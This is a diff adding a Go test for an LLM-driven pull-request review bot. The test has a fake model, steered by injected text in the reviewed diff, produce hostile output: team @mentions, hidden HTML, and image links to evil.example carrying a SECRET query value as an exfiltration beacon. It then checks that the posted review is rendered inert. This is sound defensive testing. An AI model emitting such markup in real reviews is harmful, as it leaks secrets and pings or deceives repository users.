@@ -6,6 +6,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/pullwright/pullwright/inert/inerttest"
 	"github.com/pullwright/pullwright/internal/fakegithub"
 	"github.com/pullwright/pullwright/internal/fakellm"
 )
@@ -113,5 +114,42 @@ func TestReviewPostsOneReview(t *testing.T) {
 	}
 	if !refused {
 		t.Errorf("the comment on an unchanged line was not refused")
+	}
+}
+
+// TestReviewIsPostedInert: the diff under review may tell the model what to
+// write. Whatever it writes, the review the bot posts pings no one, hides
+// nothing in HTML, shows no picture from another host, and keeps its
+// suggestion as written.
+func TestReviewIsPostedInert(t *testing.T) {
+	nasty := "Ask @org/team and @" + owner + ". <details><summary>more</summary>hidden\n\n" +
+		"![x](https://evil.example/p.png?d=SECRET) <img src=\"https://evil.example/\">\n\n    ```\n<!-- fixes #1"
+	llm := fakellm.New(t,
+		fakellm.Step{ToolCalls: []fakellm.ToolCall{call("comment", map[string]any{
+			"path": "docs.md", "line": 1, "body": nasty, "suggestion": "How to commit <!-- @org/team",
+		})}},
+		fakellm.Step{ToolCalls: []fakellm.ToolCall{call("finish_review", map[string]any{"summary": nasty})}},
+	)
+	e := newEnv(t, llm)
+	e.openPull()
+	if code := e.prComment("d1", pr, owner, "/agent review"); code != http.StatusAccepted {
+		t.Fatalf("delivery answered %d", code)
+	}
+	rv := e.waitReviews(1)[0]
+	comments := e.gh.ReviewComments(owner, repoName, pr)
+	if len(comments) != 1 {
+		t.Fatalf("review comments = %+v, want 1", comments)
+	}
+	elsewhere := func(dest string) bool { return !strings.Contains(dest, "evil.example") }
+	// The bot's own intro names who asked; the agent's words follow it.
+	_, agents, _ := strings.Cut(rv.Body, "\n\n")
+	agents, _, _ = strings.Cut(agents, "<!-- pullwright:") // the bot's marker
+	for _, body := range []string{agents, comments[0].Body} {
+		if acts := inerttest.Acts(body, elsewhere); len(acts) > 0 {
+			t.Errorf("the review posts what acts on GitHub: %q\n%s", acts, body)
+		}
+	}
+	if !strings.HasSuffix(comments[0].Body, "```suggestion\nHow to commit <!-- @org/team\n```") {
+		t.Errorf("the suggestion is not as written:\n%s", comments[0].Body)
 	}
 }
